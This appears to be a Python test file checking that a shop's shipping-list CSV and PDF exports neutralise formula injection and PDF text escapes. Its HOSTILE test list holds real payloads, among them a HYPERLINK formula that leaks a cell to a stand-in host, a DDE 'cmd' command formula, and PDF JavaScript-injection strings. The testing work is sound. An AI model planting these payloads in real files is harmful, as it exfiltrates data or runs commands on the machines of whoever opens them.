"""Exports an operator opens: no formula runs in the CSV, no text escapes its string in the PDF.

The shipping list (core/shipping_list.py) carries buyer names, cities and order numbers that
strangers chose. In the CSV every cell that a spreadsheet would run as a formula (leading
`=`, `+`, `-`, `@`, tab, CR, NUL; OWASP and ASVS 1.2.10) starts with `'` and reads back as the
original text otherwise. In the PDF every text is one string operand of a text operator, the
file has no actions or scripts, and any text renders without an error.
"""

from __future__ import annotations

import csv
import io
import re
import zlib
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.shipping_list import ShippingListRow, render_csv, render_pdf
from tests.stress.fuzzing import fuzz

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
DAY = date(2026, 11, 26)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "=cmd|' /C calc'!A0",
    "+41 79 123",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "x) Tj ET BT (y",
    "\\) /JavaScript (app.alert(1)",
    "<script>alert(1)</script>",
    'Jürgen;"Müller"\r\nZeile 2',
]
TEXT = st.text(max_size=40) | st.sampled_from(HOSTILE)


def row(**values: str) -> ShippingListRow:
    fields = {
        "carrier": "dhl",
        "tracking_number": "340434161094042557",
        "order_no": "AU100001",
        "recipient_name": "Erika Mustermann",
        "postal_code": "10115",
        "city": "Berlin",
    }
    fields.update(values)
    return ShippingListRow(ship_date=DAY, **fields)


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


@fuzz()
@given(name=TEXT, city=TEXT, order_no=TEXT, postal_code=TEXT)
def test_no_csv_cell_starts_like_a_formula_and_every_cell_reads_back(
    name: str, city: str, order_no: str, postal_code: str
) -> None:
    values = {
        "recipient_name": name,
        "city": city,
        "order_no": order_no,
        "postal_code": postal_code,
    }
    [header, cells] = read_back(render_csv([row(**values)]))
    assert len(cells) == len(header) == 7
    by_column = dict(zip(header, cells, strict=True))
    for column, original in (
        ("Empfänger", name),
        ("Ort", city),
        ("Auftragsnummer", order_no),
        ("PLZ", postal_code),
    ):
        cell = by_column[column]
        assert not cell.startswith(FORMULA_STARTS), (column, cell)
        expected = f"'{original}" if original.startswith(FORMULA_STARTS) else original
        assert cell == expected.replace("\r\n", "\n").replace("\r", "\n") or cell == expected


@pytest.mark.parametrize("value", HOSTILE)
def test_known_formula_payloads_are_neutralised(value: str) -> None:
    [_, cells] = read_back(render_csv([row(recipient_name=value, city=value)]))
    for cell in (cells[3], cells[5]):
        assert not cell.startswith(FORMULA_STARTS)


def _content(pdf: bytes) -> bytes:
    """The pages' content streams (not the embedded font), decompressed."""
    out = []
    for number in re.findall(rb"/Contents (\d+) 0 R", pdf):
        found = re.search(rb"\n" + number + rb" 0 obj\n<<(.*?)>>\nstream\r?\n", pdf, re.S)
        assert found is not None
        length = re.search(rb"/Length (\d+)", found.group(1))
        assert length is not None
        data = pdf[found.end() : found.end() + int(length.group(1))]
        out.append(zlib.decompress(data) if b"/FlateDecode" in found.group(1) else data)
    assert out
    return b"\n".join(out)


def _strings_and_next_token(content: bytes) -> list[tuple[bytes, bytes]]:
    """Every literal string of the page content, decoded, with the token that follows it."""
    found: list[tuple[bytes, bytes]] = []
    i = 0
    while True:
        i = content.find(b"(", i)
        if i < 0:
            return found
        depth, j, value = 1, i + 1, bytearray()
        while depth:
            char = content[j : j + 1]
            if char == b"\\":
                value += content[j : j + 2]
                j += 2
                continue
            depth += {b"(": 1, b")": -1}.get(char, 0)
            if depth:
                value += char
            j += 1
        following = content[j:].split(None, 1)[0] if content[j:].strip() else b""
        found.append((bytes(value), following))
        i = j


@pytest.mark.slow
@fuzz(0.05)
@given(name=TEXT, city=TEXT, unicode_font=st.booleans())
def test_pdf_text_stays_inside_its_strings_and_the_file_has_no_actions(
    name: str, city: str, unicode_font: bool
) -> None:
    pdf = render_pdf(
        carrier_name="DHL",
        day=DAY,
        shop_name="Shop",
        rows=[row(recipient_name=name, city=city), row()],
        unicode_font=unicode_font,
    )
    for key in (b"/JavaScript", b"/JS", b"/AA", b"/Launch", b"/URI", b"/Annots", b"/EmbeddedFile"):
        assert key not in pdf, key
    # fpdf2 opens the first page fitted to the width: a destination, not an action
    assert re.findall(rb"/OpenAction ([^\n]*)", pdf) in ([], [b"[3 0 R /FitH null]"])
    strings = _strings_and_next_token(_content(pdf))
    assert strings and all(token == b"Tj" for _, token in strings), strings
